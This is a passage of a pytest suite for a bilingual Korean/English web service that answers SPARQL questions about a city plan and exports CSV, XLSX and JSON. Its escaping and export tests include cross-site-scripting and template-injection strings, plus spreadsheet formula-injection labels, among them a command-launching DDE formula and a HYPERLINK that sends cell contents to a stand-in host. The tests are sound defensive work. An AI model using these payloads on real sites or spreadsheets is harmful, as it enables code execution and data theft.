        assert page.inputs[parameter.name]["value"] == parameter.default
        words = parameter.description.ko if lang == "ko" else parameter.description.en
        assert words.casefold() in page.response.text.replace("&#39;", "'").casefold()
    assert bool(page.forms) is bool(question.parameters)
    case = f"{question.name}.tsv"
    if case in ROWS:
        columns, rows = expected_rows(case)
        heads = [each.in_language("ko" if lang == "ko" else "en") for each in column_names(question, columns)]
        # A table with nothing in it isn't shown.
        assert page.cells[:1] == ([heads] if rows else [])
        assert len(page.cells[1:]) == min(len(rows), 100)
        for shown, row in zip(page.cells[1:], rows, strict=False):
            for cell, value in zip(shown, row, strict=True):
                truth = {"예": "true", "Yes": "true", "아니요": "false", "No": "false"}.get(cell)
                assert value in (cell, truth) or value.startswith("http"), (cell, value)
        told = f"{len(rows):,}" if rows else NOTHING_FOUND[lang]
        assert told in page.response.text


@pytest.mark.parametrize(
    ("name", "fields"),
    [
        ("strategies-of-a-policy", {"policy": "4"}),
        ("elements-with-a-word", {"word": "품격있는"}),
        ("mentions-of-an-element", {"name": "품격있는 광주"}),
        ("passages-in-order", {"page": "2", "per_page": "50"}),
        ("do-all-declared-counts-hold", {}),
        *((name, {}) for name in CONSTRUCTS),
        ("elements-with-a-word", {"word": "없는 말"}),
    ],
)
@pytest.mark.parametrize("lang", ["ko", "en"])
def test_every_link_of_a_page_works(
    client: httpx.Client, name: str, fields: dict[str, str], lang: str
) -> None:
    page = page_of(client, f"/questions/{name}", lang, **fields)
    page.follow(client)


@pytest.mark.parametrize("lang", ["ko", "en"])
@pytest.mark.parametrize("path", ["/", "/questions", "/limits", "/sparql"])
def test_every_link_of_the_other_pages_works(client: httpx.Client, path: str, lang: str) -> None:
    page_of(client, path, lang).follow(client)


def test_exports_have_what_the_page_shows(client: httpx.Client) -> None:
    page = page_of(client, "/questions/strategies-of-a-policy", "en", policy="4")
    kinds = set()
    for link, _ in page.links:
        if "format=" in link:
            response = good(client.get(urljoin(str(page.response.url), link)))
            kinds.add(response.headers["content-type"].partition(";")[0])
            if response.headers["content-type"].startswith(("text/", "application/json", SRJ)):
                assert "광주다운 도시 디자인" in response.text
            else:
                assert Cell("text", "광주다운 도시 디자인") in read_sheet(response.content)[1].values()
    assert {"text/csv", XLSX, "application/json", SRJ} <= kinds


def test_a_long_answer_is_paged_for_people_and_exported_whole(client: httpx.Client) -> None:
    total = len(good(client.get("/questions/passages-in-order")).json())
    page = page_of(client, "/questions/passages-in-order", "en")
    rows = page.cells[1:]
    while following := [link for link, words in page.links if "Next" in words]:
        page = Page(good(client.get(urljoin(str(page.response.url), following[0]), headers=BROWSER)), "en")
        page.check()
        rows += page.cells[1:]
    assert len(rows) == total
    sheets = [link for link, _ in page.links if "format=xlsx" in link]
    response = good(client.get(urljoin(str(page.response.url), sheets[0])))
    assert len(read_sheet(response.content)) == total + 1


@pytest.mark.parametrize(
    ("name", "fields"),
    [
        ("strategies-of-a-policy", {"policy": "4"}),
        ("elements-with-a-word", {"word": "품격있는 & <b>"}),
        ("passages-in-order", {"page": "2", "per_page": "50"}),
    ],
)
def test_changing_the_language_keeps_what_was_asked(
    client: httpx.Client, name: str, fields: dict[str, str]
) -> None:
    korean = page_of(client, f"/questions/{name}", "ko", **fields)
    (link,) = [link for link, words in korean.links if words == "English"]
    sent = {key: values[0] for key, values in parse_qs(urlsplit(link).query).items()}
    assert sent == {**fields, "lang": "en"}
    english = Page(good(client.get(urljoin(str(korean.response.url), link), headers=BROWSER)), "en")
    english.check()
    assert [row[1:2] for row in english.cells[1:]] == [row[1:2] for row in korean.cells[1:]]


def test_the_form_keeps_the_language_and_the_page_forgets_no_parameter(client: httpx.Client) -> None:
    page = page_of(client, "/questions/passages-with-a-word", "en", word="광주", per_page="2")
    assert page.inputs["lang"]["value"] == "en"
    assert page.inputs["word"]["value"] == "광주"
    following = [link for link, words in page.links if "Next" in words]
    sent = parse_qs(urlsplit(following[0]).query)
    assert sent == {"lang": ["en"], "word": ["광주"], "per_page": ["2"], "page": ["2"]}


@pytest.mark.parametrize(
    "value",
    [
        '"><script>alert(1)</script>',
        "' onfocus='alert(1)",
        "</title><script>",
        "&lt;b&gt;&amp;",
        "</textarea></pre></details><img src=x>",
        "{{7*7}}{%raw%}",
    ],
)
def test_hostile_values_stay_text(client: httpx.Client, value: str) -> None:
    for lang in ("ko", "en"):
        page = page_of(client, "/questions/elements-with-a-word", lang, word=value)
        assert page.inputs["word"]["value"] == value
        page.follow(client)
        wrong = client.get(
            "/questions/strategies-of-a-policy", params={"policy": value, "lang": lang}, headers=BROWSER
        )
        assert wrong.status_code == 400
        Page(wrong, lang).check()
        missing = client.get(f"/questions/{quote(value, safe='')}", params={"lang": lang}, headers=BROWSER)
        assert missing.status_code == 404
        Page(missing, lang).check()


def test_a_wrong_value_in_a_form_can_be_mended(client: httpx.Client) -> None:
    """The page that says what is wrong keeps the form, so that nobody must start again."""
    params = {"policy": "둘", "lang": "ko"}
    response = client.get("/questions/strategies-of-a-policy", params=params, headers=BROWSER)
    page = Page(response, "ko")
    links = [urlsplit(link).path for link, _ in page.links]
    assert "policy" in page.inputs or "/questions/strategies-of-a-policy" in links


# Labels that a spreadsheet would take for formulas

LABELS = [
    "=1+1",
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://evil.example/?"&A1,"광주")',
    "+82",
    "+82 62 613-2114",
    "-3",
    "-2+3",
    "@x",
    "@SUM(1,2)",
    "\t=1+1",
    "\n=1+1",
    "\r=1+1",
    "＝1+1",
    "＋82",
    "－3",
    "＠SUM(1,2)",
    "{=1+1}",
    '따옴표 "안"과 , 쉼표',
    "첫 줄\n둘째 줄",
    "=첫 줄\n둘째 줄",
    "http://evil.example/",
    "'=1+1",
    "01",
    "1e5",
    "TRUE",
    " ",
    "_x0041_",
    "광주 <b>&amp;</b>",
]
NUMBERS = ["-3", "0", "12", "+4", "-0.5"]
QUESTION = """#+ summary:
#+   ko: 이상한 이름은 무엇인가요?
#+   en: What are the odd names?
#+ tags: [text]
#+ parameters:
#+   prefix: {type: string, default: "", ko: 이름의 앞부분, en: beginning of the name}
PREFIX csp: <https://w3id.org/gjgraph/csp#>
PREFIX skos: <http://www.w3.org/2004/02/skos/core#>

SELECT ?order ?number ?label ?prefix
WHERE {
  ?thing csp:hostile ?number ;
    csp:ordinal ?order ;
    skos:prefLabel ?label .
  FILTER (STRSTARTS(STR(?label), STR(?prefix)))
}
ORDER BY ?order
"""
SIGNS = tuple("=+-@\t\r\n＝＋－＠")


@pytest.fixture(scope="module")
def odd(tmp_path_factory: pytest.TempPathFactory) -> Iterator[httpx.Client]:
    """A client of a server over a plan with names that look like something else."""
    folder = tmp_path_factory.mktemp("odd")
    root = folder / "workspace"
    for name in ("data", "ontology", "queries"):
        shutil.copytree(ROOT / name, root / name)
    shutil.copy(ROOT / "gjgraph.toml", root)
    write_odd_names(root)
    with live(folder / "log", at=root) as server, httpx.Client(base_url=server.address) as opened:
        del opened.headers["accept"]
        yield opened


LONG = """#+ summary: {ko: 너무 긴 글, en: A text that is too long}
SELECT ?text ?more
WHERE { { SELECT (GROUP_CONCAT(STR(?y); separator="") AS ?text) { ?x ?y ?z } } BIND (1 AS ?more) }
"""


def write_odd_names(root: Path) -> None:
    lines = ["@base <https://w3id.org/gjgraph/> .", "@prefix csp: <https://w3id.org/gjgraph/csp#> ."]
    lines.append("@prefix skos: <http://www.w3.org/2004/02/skos/core#> .")
    for place, label in enumerate(LABELS):
        number = NUMBERS[place % len(NUMBERS)]
        text = json.dumps(label, ensure_ascii=False)
        lines.append(
            f"<id/odd/{place}>\n    skos:prefLabel {text} ;\n"
            f"    csp:ordinal {place} ;\n    csp:hostile {number} ."
        )
    (root / "data/odd.ttl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    (root / "queries/questions/odd-names.rq").write_text(QUESTION, encoding="utf-8")
    (root / "queries/questions/long-text.rq").write_text(LONG, encoding="utf-8")


def table(response: httpx.Response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(good(response).content.decode("utf-8-sig"), newline=""), strict=True))


def test_plain_csv_is_untouched(odd: httpx.Client) -> None:
    for response in (odd.get("/questions/odd-names.csv"), odd.get("/questions/odd-names?format=csv")):
        head, *rows = table(response)
        assert head == ["order", "number", "label"]
        assert [row[2] for row in rows] == LABELS
        assert not response.content.startswith(b"\xef\xbb\xbf")
        assert response.content.decode() == written_csv([head, *rows])


@pytest.mark.parametrize(
    ("path", "headers"),
    [
        ("odd-names?format=spreadsheet", {}),
        ("odd-names.csv?bom=1", {}),
        ("odd-names?format=csv&bom=1", {}),
        ("odd-names?bom=1", {"accept": "text/csv"}),
        ("odd-names.csv?bom=true", {}),
    ],
)
def test_a_spreadsheet_evaluates_nothing(odd: httpx.Client, path: str, headers: dict[str, str]) -> None:
    response = odd.get(f"/questions/{path}", headers=headers)
    assert response.content.startswith(b"\xef\xbb\xbf")
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    head, *rows = table(response)
    assert head == ["order", "number", "label"]
    assert response.content.decode("utf-8-sig") == written_csv([head, *rows])
    plain_rows = table(odd.get("/questions/odd-names.csv"))[1:]
    for row, untouched, label in zip(rows, plain_rows, LABELS, strict=True):
        # Numbers stay numbers.
        assert row[:2] == untouched[:2]
        assert row[2] in (label, "'" + label)
        is_number = re.fullmatch(r"[+-]?\d+(\.\d+)?", row[2])
        assert not row[2].startswith(SIGNS) or is_number, row[2]
        if not label.startswith((*SIGNS, "'")):
            assert row[2] == label


def test_a_workbook_has_numbers_and_texts_and_no_formula(odd: httpx.Client) -> None:
    head, *rows = read_sheet(good(odd.get("/questions/odd-names.xlsx")).content)
    assert [head[place].value for place in range(3)] == ["order", "number", "label"]
    for place, (row, label) in enumerate(zip(rows, LABELS, strict=True)):
        assert row[0] == Cell("number", str(place))
        assert row[1].kind == "number"
        assert float(row[1].value) == float(NUMBERS[place % len(NUMBERS)])
        assert row[2] == Cell("text", label)


def test_objects_and_pages_show_odd_names_as_they_are(odd: httpx.Client) -> None:
    assert [row["label"] for row in good(odd.get("/questions/odd-names")).json()] == LABELS
    page = page_of(odd, "/questions/odd-names", "en")
    assert [row[2] for row in page.cells[1:]] == LABELS
    page.follow(odd)


def test_an_export_of_chosen_rows(odd: httpx.Client) -> None:
    response = odd.get("/questions/odd-names", params={"prefix": "=", "format": "spreadsheet"})
    assert len(table(response)) - 1 == sum(label.startswith("=") for label in LABELS)


def test_a_text_that_no_cell_can_hold_is_said_so(odd: httpx.Client) -> None:
    """A cell holds 32,767 characters: better no workbook than one that lacks something."""
    (row,) = good(odd.get("/questions/long-text")).json()
    assert len(row["text"]) > 32_767
    for lang in (KO, EN):
        response = odd.get("/questions/long-text.xlsx", headers=lang)
        assert response.status_code in (400, 406, 413, 422, 507)
        assert "32,767" in problem(response, lang)
